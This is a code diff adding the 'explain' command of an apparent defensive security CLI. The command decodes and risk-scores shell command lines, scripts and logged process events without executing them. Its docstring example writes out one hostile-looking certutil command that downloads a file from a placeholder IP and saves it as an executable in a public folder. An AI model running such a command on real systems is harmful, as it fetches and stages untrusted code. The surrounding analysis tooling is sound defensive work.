@@ -1,0 +1,329 @@
+"""``vedette explain``: any command line read aloud; nothing of it is executed."""
+
+from __future__ import annotations
+
+import json as json_module
+import shlex
+import sys
+from collections.abc import Iterable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import TYPE_CHECKING, Annotated, Any
+
+import orjson
+import typer
+
+from vedette.cli.frame import Frame, JsonOption, frame_of
+from vedette.cli.jsonl import exit_code
+from vedette.errors import UserError, VedetteError
+
+if TYPE_CHECKING:
+    from vedette.knowledge.tools import ToolTables
+    from vedette.schema.command import Explanation, Language
+
+app = typer.Typer(rich_markup_mode=None)
+
+_SHELLS = {"auto": None, "bash": "sh", "batch": "cmd", "zsh": "sh", "js": "jscript", "node": "javascript"}
+_ENDINGS = {
+    ".ps1": "powershell", ".psm1": "powershell", ".psd1": "powershell", ".bat": "cmd", ".cmd": "cmd", ".sh": "sh",
+    ".bash": "sh", ".zsh": "sh", ".ksh": "sh", ".js": "jscript", ".jse": "jscript", ".vbs": "vbscript",
+    ".vba": "vbscript", ".bas": "vbscript", ".py": "python", ".pl": "perl", ".pm": "perl", ".rb": "ruby", ".php": "php",
+    ".mjs": "javascript", ".sql": "sql", ".awk": "awk",
+}  # fmt: skip
+MOST_BYTES = 8_000_000
+
+
+@dataclass(frozen=True, slots=True)
+class Given:
+    """One command to explain, and where it came from."""
+
+    name: str
+    text: str
+    language: Language | None
+
+
+@app.command()
+def explain(
+    context: typer.Context,
+    command: Annotated[
+        list[str] | None,
+        typer.Argument(
+            help="The command line, best in single quotes; - or none reads stdin. After -- it may have flags."
+        ),
+    ] = None,
+    shell: Annotated[
+        str,
+        typer.Option(
+            "--shell",
+            "-s",
+            help="auto, powershell, cmd, bash, program (as in a process event), python, jscript, vbscript …",
+        ),
+    ] = "auto",
+    file: Annotated[
+        list[Path] | None, typer.Option("--file", "-f", help="A script to explain; may be repeated.")
+    ] = None,
+    lines: Annotated[
+        bool, typer.Option("--lines", help="Each line of stdin or of the files is a command of its own.")
+    ] = False,
+    lake: Annotated[
+        bool, typer.Option("--lake", help="Explain the process events of the lake, riskiest first.")
+    ] = False,
+    host: Annotated[str | None, typer.Option("--host", help="With --lake: only on this host.")] = None,
+    account: Annotated[str | None, typer.Option("--account", help="With --lake: only by this account.")] = None,
+    limit: Annotated[int, typer.Option("--limit", "-n", min=1, help="With --lake: commands listed.")] = 20,
+    workers: Annotated[int, typer.Option("--workers", "-j", min=1, max=64, help="With --lake: processes.")] = 1,
+    tables: Annotated[
+        list[Path] | None,
+        typer.Option("--tables", help="Your own tables of tools (YAML), laid over ours; may be repeated."),
+    ] = None,
+    full: Annotated[bool, typer.Option("--full", help="Every token, layer and line.")] = False,
+    fail_on: Annotated[
+        float | None, typer.Option("--fail-on", min=0, max=1, help="Exit 1 if a risk is at least this.")
+    ] = None,
+    jsonl: Annotated[
+        bool, typer.Option("--jsonl", help='Explain each line of stdin, {"id": …, "text": …} or {"id": …, "path": …}.')
+    ] = False,
+    json: JsonOption = False,
+) -> None:
+    r"""Say what a command line or script does: layers decoded, tokens explained, risk, ATT&CK, observables.
+
+    Decodes PowerShell, cmd and batch, sh and bash, and what they carry (JScript, VBScript, Python, Perl, SQL …) layer
+    by layer. Nothing is executed, opened or asked of the network: what only running would tell is said to be unknown.
+
+    Example: vedette explain 'certutil -urlcache -f http://192.0.2.7/a.txt C:\Users\Public\a.exe'
+    """
+    frame = frame_of(context)
+    language = _language(shell)
+    known = _tables(frame, tables)
+    if jsonl:
+        raise typer.Exit(_jsonl(language, known))
+    if lake:
+        _lake(frame, known, host, account, limit, workers, fail_on, json)
+        return
+    worst = _explain_all(frame, _given(command, file, lines, language), known, full=full, as_json=json)
+    if fail_on is not None and worst >= fail_on:
+        raise typer.Exit(1)
+
+
+def _language(shell: str) -> Language | None:
+    from vedette.schema.command import Language
+
+    name = shell.strip().lower()
+    name = _SHELLS.get(name, name) or ""
+    if not name:
+        return None
+    try:
+        return Language(name)
+    except ValueError:
+        raise UserError(
+            f"--shell cannot be {shell!r}", next_step=f"choose one of: auto, bash, batch, {', '.join(sorted(Language))}"
+        ) from None
+
+
+def _tables(frame: Frame, paths: list[Path] | None) -> ToolTables:
+    from vedette.knowledge.tools import tables_with
+
+    own = frame.home_path() / "tools"
+    for path in paths or ():
+        if not path.exists():
+            raise UserError(f"{path} is not there", next_step="give a YAML file of tools, or a folder of them")
+    return tables_with([*([own] if own.is_dir() else []), *(paths or ())])
+
+
+def _given(
+    command: list[str] | None, files: list[Path] | None, lines: bool, language: Language | None
+) -> Iterator[Given]:
+    """Yield what is to be explained, in order."""
+    if command and command != ["-"]:
+        if files:
+            raise UserError("give a command or --file, not both")
+        text = command[0] if len(command) == 1 else " ".join(_quoted(part) for part in command)
+        yield Given("command", text, language)
+        return
+    if files:
+        for path in files:
+            yield from _split(str(path), _read(path), lines, language or _by_ending(path))
+        return
+    if sys.stdin.isatty():
+        raise UserError("no command", next_step="vedette explain 'COMMAND', or pipe it in")
+    data = sys.stdin.buffer.read(MOST_BYTES + 1)
+    if len(data) > MOST_BYTES:
+        raise UserError(f"stdin holds more than {MOST_BYTES:,} bytes", next_step="explain it in parts, or use --jsonl")
+    yield from _split("stdin", _text(data, "stdin"), lines, language)
+
+
+def _quoted(part: str) -> str:
+    return (
+        part if part and not any(c in part for c in " \t\"'") else f'"{part}"' if '"' not in part else shlex.quote(part)
+    )
+
+
+def _split(name: str, text: str, lines: bool, language: Language | None) -> Iterator[Given]:
+    if not lines:
+        yield Given(name, text.strip("\r\n"), language)
+        return
+    for number, line in enumerate(text.splitlines(), 1):
+        if line.strip():
+            yield Given(f"{name}:{number}", line, language)
+
+
+def _read(path: Path) -> str:
+    if path.is_dir():
+        raise UserError(f"{path} is a folder", next_step="name its files: --file a.ps1 --file b.bat")
+    if not path.exists():
+        raise UserError(f"{path} is not there", next_step="check the path")
+    if path.is_file() and path.stat().st_size > MOST_BYTES:
+        raise UserError(f"{path} is larger than {MOST_BYTES:,} bytes, no script that a person wrote")
+    with path.open("rb") as opened:
+        data = opened.read(MOST_BYTES + 1)
+    return _text(data, str(path))
+
+
+def _text(data: bytes, name: str) -> str:
+    from vedette.commands.decoding import decode_text
+
+    text = decode_text(data)
+    if text is None:
+        raise UserError(f"{name} is binary, no command or script", next_step="give text: a command line or a script")
+    if not text.strip():
+        raise UserError(f"{name} is empty", next_step="vedette explain 'COMMAND'")
+    return text
+
+
+def _by_ending(path: Path) -> Language | None:
+    from vedette.schema.command import Language
+
+    ending = _ENDINGS.get(path.suffix.lower())
+    return Language(ending) if ending else None
+
+
+def _explain_all(frame: Frame, given: Iterable[Given], tables: ToolTables, *, full: bool, as_json: bool) -> float:
+    """Explain each and print it; return the highest risk."""
+    from vedette.cli.explained import show
+    from vedette.commands import explain as explain_command
+
+    items = list(given)
+    many = len(items) > 1
+    worst = 0.0
+    told: list[dict[str, Any]] = []
+    for item in items:
+        explanation = explain_command(item.text, item.language, tables=tables)
+        worst = max(worst, explanation.risk)
+        if as_json:
+            told.append(_dict(explanation) | ({"source": item.name} if many else {}))
+        elif many and not full:
+            mark = "risky" if explanation.risky else ""
+            frame.say(f"{item.name}  {explanation.risk:.2f} {mark}", "bold red" if explanation.risky else "bold")
+            frame.say(f"  {explanation.sentence}")
+        else:
+            show(frame, explanation, full=full, title=item.name if many else None)
+            if many:
+                frame.say("")
+    if as_json:
+        frame.print_json({"explanations": told} if many else told[0])
+    elif many and not full:
+        frame.next_step("vedette explain --full …", "to see every layer and token", here=False)
+    return worst
+
+
+def _dict(explanation: Explanation) -> dict[str, Any]:
+    from vedette.commands.telling.as_json import as_json
+
+    return as_json(explanation)
+
+
+def _jsonl(language: Language | None, tables: ToolTables) -> int:
+    from vedette.commands import explain as explain_command
+
+    done = failed = 0
+    for line in sys.stdin.buffer:
+        if not line.strip():
+            continue
+        answer: dict[str, Any] = {"id": None}
+        try:
+            asked = orjson.loads(line)
+            if not isinstance(asked, dict) or not isinstance(asked.get("text", asked.get("path")), str):
+                raise UserError("give id and text, or id and path")
+            answer["id"] = asked.get("id")
+            own = _language(str(asked["shell"])) if asked.get("shell") else language
+            if "text" in asked:
+                text = asked["text"]
+            else:
+                path = Path(asked["path"])
+                text, own = _read(path), own or _by_ending(path)
+            answer |= _dict(explain_command(text, own, tables=tables))
+        except orjson.JSONDecodeError as error:
+            answer["error"] = f"not JSON: {error}"
+        except VedetteError as error:
+            answer["error"] = error.message
+        except OSError as error:
+            answer["error"] = f"{error.strerror or error}"
+        sys.stdout.write(json_module.dumps(answer, ensure_ascii=True, default=str) + "\n")
+        sys.stdout.flush()
+        failed += "error" in answer
+        done += "error" not in answer
+    return exit_code(done, failed)
+
+
+def _lake(
+    frame: Frame,
+    tables: ToolTables,
+    host: str | None,
+    account: str | None,
+    limit: int,
+    workers: int,
+    fail_on: float | None,
+    as_json: bool,
+) -> None:
+    from vedette.cli.bars import bar
+    from vedette.commands.events import explain_events
+
+    with frame.lake() as lake, bar(frame, "commands") as shown:
+        found = explain_events(lake, tables, host=host, account=account, workers=workers, progress=shown.events)
+    if as_json:
+        frame.print_json(
+            {
+                "n_events": found.n_events,
+                "n_commands": found.n_commands,
+                "n_risky": found.n_risky,
+                "commands": [
+                    {
+                        "count": item.count,
+                        "first_at": item.first_at,
+                        "last_at": item.last_at,
+                        "hosts": list(item.hosts),
+                        "accounts": list(item.accounts),
+                        "events": list(item.event_ids),
+                        "explanation": _dict(item.explanation),
+                    }
+                    for item in found.commands[:limit]
+                ],
+            }
+        )
+    else:
+        frame.say(
+            f"{found.n_commands:,} different command lines in {found.n_events:,} events; "
+            f"{found.n_risky:,} called risky",
+            "bold",
+        )
+        for item in found.commands[:limit]:
+            explanation = item.explanation
+            where = ", ".join(item.hosts[:2]) + (" …" if len(item.hosts) > 2 else "")
+            frame.say(
+                f"\n{explanation.risk:.2f}  {item.count}x  {item.first_at:%Y-%m-%d %H:%M:%S}  {where}  "
+                f"{', '.join(item.accounts[:2])}",
+                "bold red" if explanation.risky else "bold",
+            )
+            text = explanation.command
+            frame.say(f"  {text if len(text) <= 300 else text[:299] + '…'}", "cyan")
+            frame.say(f"  {explanation.sentence}")
+            if explanation.techniques:
+                frame.say(
+                    "  " + ", ".join(f"{t.id} {t.name or ''} {t.confidence:.2f}" for t in explanation.techniques[:3])
+                )
+        if found.n_commands > limit:
+            frame.note(f"{found.n_commands - limit:,} more: --limit")
+        if found.commands:
+            frame.next_step("vedette explain 'COMMAND'", "to see one token by token", here=False)
+    if fail_on is not None and found.commands and found.commands[0].explanation.risk >= fail_on:
+        raise typer.Exit(1)
